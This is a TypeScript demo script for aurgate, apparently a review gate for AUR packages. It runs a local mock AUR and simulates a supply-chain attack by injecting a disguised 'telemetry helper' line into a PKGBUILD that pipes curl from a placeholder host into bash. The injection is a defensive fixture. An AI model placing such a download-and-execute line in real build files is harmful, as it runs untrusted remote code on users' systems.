/**
 * `npm run demo`: a local AUR with a few packages, an aurgate in front of it with reviewed history
 * and a malicious update waiting in the review queue, and an account to sign in with. Runs until
 * Ctrl-C; everything lives in temporary directories removed on exit.
 *
 * AURGATE_DEMO_PORT picks the port (default 8080; a random free one when that is taken).
 */
import { randomBytes } from 'node:crypto';
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createUser } from '../src/accounts/users.js';
import { loadConfig } from '../src/config.js';
import { Aurgate } from '../src/compose.js';
import { createLogger } from '../src/log.js';
import { getPendingRevision } from '../src/quarantine/revisions.js';
import { startServer } from '../src/http/server.js';
import { makePackage } from './support/fixture-packages.js';
import { TestUpstream } from './support/upstream.js';

function portIsFree(port: number): Promise<boolean> {
  return new Promise((resolve) => {
    const probe = createServer();
    probe.once('error', () => resolve(false));
    probe.listen(port, '127.0.0.1', () => probe.close(() => resolve(true)));
  });
}

/** A version bump whose package() pipes a download into bash, pushed right after an adoption. */
function maliciousUpdate(): Record<string, string> {
  const files = makePackage({ pkgbase: 'libwidget', pkgver: '2.4.1', pkgdesc: 'Widget toolkit library', url: 'https://widgets.example.org' });
  const pkgbuild = (files['PKGBUILD'] ?? '').replace(
    'package() {\n',
    'package() {\n  # post-install telemetry helper\n  curl -fsSL https://paste.example/raw/Qm9vdA | bash\n',
  );
  return { ...files, PKGBUILD: pkgbuild };
}

const requestedPort = Number(process.env['AURGATE_DEMO_PORT'] ?? 8080);
const port = (await portIsFree(requestedPort)) ? requestedPort : 0;
const upstream = await TestUpstream.start();
const dataDir = await mkdtemp(join(tmpdir(), 'aurgate-demo-'));

process.stdout.write('starting a local AUR with sample packages…\n');
await upstream.addPackage(makePackage({ pkgbase: 'hello-aur', pkgdesc: 'Prints a friendly greeting' }), {
  Maintainer: 'alice',
  NumVotes: 42,
  Popularity: 1.3,
});
await upstream.addPackage(makePackage({ pkgbase: 'tiny-cli', pkgver: '0.9.0', pkgdesc: 'A tiny command line tool', depends: ['glibc'] }), {
  Maintainer: 'bob',
  NumVotes: 7,
});
await upstream.addPackage(
  makePackage({ pkgbase: 'libwidget', pkgver: '2.4.0', pkgdesc: 'Widget toolkit library', url: 'https://widgets.example.org' }),
  { Maintainer: 'carol', NumVotes: 310, Popularity: 4.2 },
);
await upstream.addPackage(
  makePackage({ pkgbase: 'widget-app', pkgdesc: 'Desktop app built on libwidget', depends: ['libwidget', 'widget-themes', 'gtk3'] }),
  { Maintainer: 'carol', NumVotes: 120 },
);
await upstream.addPackage(makePackage({ pkgbase: 'widget-themes', pkgdesc: 'Themes for widget-app' }), { Maintainer: 'dave' });

const config = loadConfig({ AURGATE_DATA_DIR: dataDir, AURGATE_UPSTREAM_URL: upstream.url, AURGATE_PORT: String(port), AURGATE_LOG_LEVEL: 'warn' });
const app = new Aurgate(config, createLogger(config.logLevel, { process: 'demo' }));

const password = randomBytes(12).toString('base64url');
const demo = await createUser(app.db, { name: 'demo', role: 'admin', password }, 'demo-setup');

process.stdout.write('mirroring, reviewing and approving the first revisions…\n');
await app.allow(['hello-aur', 'tiny-cli', 'libwidget', 'widget-app'], 'demo', 'cli');
await app.sync({ trigger: 'cli' });
for (const pkgbase of ['hello-aur', 'tiny-cli', 'libwidget', 'widget-app']) {
  const pending = getPendingRevision(app.db, pkgbase);
  if (pending) await app.approve({ pkgbase, commit: pending.commit, by: { user: demo, channel: 'cli' }, note: 'initial review' });
}

process.stdout.write('upstream: libwidget changes hands and gets a malicious update…\n');
upstream.setMeta('libwidget', { Maintainer: 'widget-helper-2024' });
await upstream.push('libwidget', maliciousUpdate(), 'Update to 2.4.1');
await upstream.push(
  'tiny-cli',
  makePackage({ pkgbase: 'tiny-cli', pkgver: '1.0.0', pkgdesc: 'A tiny command line tool', depends: ['glibc'] }),
  'Update to 1.0.0',
);
await app.sync({ trigger: 'cli' });

const server = await startServer(app, { schedule: false, port });

process.stdout.write(`
aurgate demo is running.

  Web admin:  ${server.url}/admin
  Sign in:    user "demo", password "${password}"  (role: admin)

  Waiting for review: libwidget 2.4.1 (malicious: curl | bash after a maintainer change)
                      tiny-cli 1.0.0 (a harmless version bump)
  Try as a client:    git clone ${server.url}/hello-aur.git
                      curl '${server.url}/rpc/?v=5&type=info&arg[]=libwidget'

Ctrl-C stops it and removes the temporary data.
`);

let stopping = false;
async function stop(): Promise<void> {
  if (stopping) return;
  stopping = true;
  process.stdout.write('\nstopping…\n');
  await server.close(2000);
  app.close();
  await upstream.stop();
  await rm(dataDir, { recursive: true, force: true });
  process.exit(0);
}
process.on('SIGINT', () => void stop());
process.on('SIGTERM', () => void stop());
